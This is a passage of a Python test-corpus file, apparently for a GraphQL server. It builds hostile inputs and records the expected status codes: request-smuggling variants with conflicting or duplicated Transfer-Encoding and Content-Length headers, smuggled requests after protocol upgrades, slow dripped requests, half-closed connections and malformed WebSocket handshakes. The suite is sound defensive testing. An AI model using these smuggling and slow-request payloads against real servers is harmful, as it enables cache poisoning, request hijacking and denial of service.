                subscribe("subscription { jobChanged { id } }", str(n)) + said({"type": "complete", "id": str(n)})
                for n in range(100)
            )
        ],
        None,
    )


def smugglers() -> Iterator[tuple[str, Sequence[bytes], set[int]]]:
    """A request, and another one as its body: a name, the pieces, each sent once the one before it is answered, how
    the first may be answered. The second never is.
    """
    chunks = b"%x\r\n%s\r\n0\r\n\r\n" % (len(SMUGGLED), SMUGGLED)
    for (said, body), protocol, method in product(
        (({"Content-Length": str(len(SMUGGLED))}, SMUGGLED), ({"Transfer-Encoding": "chunked"}, chunks)),
        ("h2c", "foo", "TLS/1.0", "websocket"),
        ("POST", "GET", "HEAD"),
    ):
        beginning = head(method, Content_Type=JSON, **SOCKET | said | {"Upgrade": protocol})
        name = f"an upgrade to {protocol} with {'; '.join(said)} by {method}"
        # As without the upgrade: GraphQL has no HEAD, and no body where it is asked by GET.
        answered = {400} if protocol == "websocket" or method == "POST" else {400, 405}
        yield f"{name}, in one piece", [beginning + body], answered
        if protocol == "websocket" or method != "POST":  # a body is waited for, as without the upgrade
            yield f"{name}, in two pieces", [beginning, body], answered
    for protocol in ("h2c", "foo", "TLS/1.0"):
        upgrade = head("GET", "/healthz", Connection="Upgrade", Upgrade=protocol)
        yield f"an upgrade to {protocol}, and what follows", [upgrade + SMUGGLED], {200}
        yield f"an upgrade to {protocol}, and what follows its answer", [upgrade, SMUGGLED], {200}
    kept = {"Connection": "keep-alive", "Content-Type": JSON}
    length = {"Content-Length": str(len(SMUGGLED))}
    yield "CONNECT with a body", [head("CONNECT", **kept | length), SMUGGLED], {400}
    yield "CONNECT, and what follows", [head("CONNECT", **kept) + SMUGGLED], {405}
    handshake = head("GET", **SOCKET)
    yield "a handshake by HTTP/1.0", [handshake.replace(b"HTTP/1.1", b"HTTP/1.0") + SMUGGLED], {400}
    yield "a handshake behind a request", [head("GET", "/healthz", **kept) + handshake + SMUGGLED], {200}
    yield "a handshake that is refused", [head("GET", Origin="null", **SOCKET), SMUGGLED], {403}
    old = head("POST", Transfer_Encoding="chunked", **kept).replace(b"HTTP/1.1", b"HTTP/1.0")
    yield "chunks by HTTP/1.0", [old + b"0\r\n\r\n" + SMUGGLED], {400}
    for coding in ("gzip, chunked", "identity\r\nTransfer-Encoding: chunked", "chunked\r\nTransfer-Encoding: chunked"):
        body = head("POST", Transfer_Encoding=coding, **kept) + b"0\r\n\r\n" + SMUGGLED
        yield f"the transfer encoding {coding!r}", [body], {400}
    for version in ("0.9", "2.0"):
        request = head("GET", "/healthz", **kept).replace(b"HTTP/1.1", f"HTTP/{version}".encode())
        yield f"a request by HTTP/{version}", [request + SMUGGLED], {400}
    closing = head("POST", Transfer_Encoding="chunked", **kept) + b"0\r\nConnection: close\r\n\r\n"
    yield "a trailer that ends the connection", [closing + SMUGGLED], {400}
    expecting = head("POST", host="evil.example", Expect="100-continue", **kept | length)
    yield "an expectation that is not met", [expecting, SMUGGLED * 2], {421}


def slow() -> Iterator[tuple[str, Callable[[Wire], Awaitable[None]], set[int] | None]]:
    """Peers that take their time: a name, what they do, how it may be answered."""
    yield "one that says nothing", raw(), None
    yield "one that ends within its first line", raw(b"GET / HT"), {408}
    yield "one that ends within its headers", raw(head("GET")[:-4]), {408}
    yield "one that ends within its body", raw(post(b"{" * 100)[:-50]), {408}
    yield (
        "one that ends within a chunk",
        raw(head(Content_Type=JSON, Transfer_Encoding="chunked") + b"ff\r\nabc"),
        {408},
    )
    yield (
        "one that ends before its trailers",
        raw(head(Content_Type=JSON, Transfer_Encoding="chunked") + b"0\r\n"),
        {408},
    )
    yield "a letter of its first line at a time", dripped(b"G", b"G"), {400, 408}
    yield "a header at a time", dripped(b"GET / HTTP/1.1\r\n", b"X: 1\r\n"), {408}
    yield "a letter of a header at a time", dripped(b"GET / HTTP/1.1\r\nX: ", b"a"), {408}
    yield "a byte of the body at a time", dripped(post(b"{" * 100_000)[:-99_999], b" "), {408}
    yield "a chunk at a time", dripped(head(Content_Type=JSON, Transfer_Encoding="chunked"), b"1\r\n \r\n"), {408}
    yield (
        "a trailer at a time",
        dripped(head(Content_Type=JSON, Transfer_Encoding="chunked") + b"0\r\n", b"X: 1\r\n"),
        {408},
    )
    yield "an empty line at a time", dripped(b"", b"\r\n"), {408}
    keeping = head("GET", "/healthz").replace(b"close", b"keep-alive")
    yield "an empty line at a time after a request", dripped(keeping, b"\r\n"), None
    yield "a second request that stays half", raw(keeping, b"GET / HT"), None
    yield (
        "a body that nobody asked for",
        dripped(post(b"{" * 100_000, host="evil.example")[:-99_999].replace(b"close", b"keep-alive"), b" "),
        None,
    )
    for name, text in {
        "nothing": b"",
        "half a line": b"GET / HT",
        "half a head": head("GET")[:-2],
        "half a body": post(b"{" * 100)[:-50],
        "a request": head("GET", "/healthz"),
        "a stream": post(asking("subscription { jobChanged { id } }"), Accept="text/event-stream"),
        "a handshake": head("GET", **SOCKET),
    }.items():
        yield f"one that closes its half after {name}", halved(text), None
    yield "a socket that never begins", on_a_socket(begun=False, quit=False), {4408}
    yield "a socket that pings but never begins", on_a_socket(said({"type": "ping"}), begun=False, quit=False), {4408}
    yield (
        "a socket that subscribes before it begins",
        on_a_socket(subscribe("{ __typename }"), begun=False, quit=False),
        {4401},
    )
    yield "a frame before the handshake's answer", shaking_hands(head("GET", **SOCKET) + INIT), None


def rude() -> Iterator[tuple[str, bytes]]:
    """Peers that break off: a name, what they send before."""
    yield "one that breaks off at once", b""
    yield "one that breaks off within a head", head("GET")[:-2]
    yield "one that breaks off within a body", post(b"{" * 100)[:-50]
    yield "one that breaks off before its answer", post(asking("{ jobs { id metrics { seq } } }"))
    yield "one that breaks off a mutation", post(asking("mutation { startJob(id: 1) { __typename } }"))
    yield "one that breaks off a stream", post(asking("subscription { jobChanged { id } }"), Accept="text/event-stream")
    yield "one that breaks off a handshake", head("GET", **SOCKET)


def corpus() -> list[Hostile]:
    """All of them."""
    found: list[Hostile] = []

    def add(
        name: str, attack: Callable[[Wire], Awaitable[None]], answered: set[int] | None, silent: bool = False
    ) -> None:
        found.append(Hostile(name, attack, None if answered is None else frozenset(answered), silent))

    for name, query, variables in documents():
        body = asking(query, **variables)
        add(f"document: {name}", raw(post(body)), DOCUMENT | ({413} if len(body) > MESSAGE_BYTES else set()))
        if len(body) < 200_000:
            add(f"document on a socket: {name}", on_a_socket(subscribe(query, **variables)), None)
    for name, body, answered in bodies():
        add(f"body: {name}", raw(post(body)), answered)
    for name, text, statuses in requests():
        add(f"request: {name}", shaking_hands(text) if b"Sec-WebSocket" in text else raw(text), statuses)
    for name, pieces, statuses in smugglers():
        add(f"smuggler: {name}", answered_in_between(*pieces), statuses)
    for name, change, statuses in handshakes():
        method, path = change.pop("method", "GET"), change.pop("path", "/graphql")
        host = change.pop("Host", "localhost")
        add(f"handshake: {name}", shaking_hands(head(method, path, host=host, **{**SOCKET, **change})), statuses)
    for name, said_, codes in frames():
        add(f"socket: {name}", on_a_socket(*said_, quit=codes is None), codes)
    for name, attack, answered_ in slow():
        add(f"slow: {name}", attack, answered_)
    for name, text in rude():
        add(f"rude: {name}", raw(text), None, silent=True)
    return found
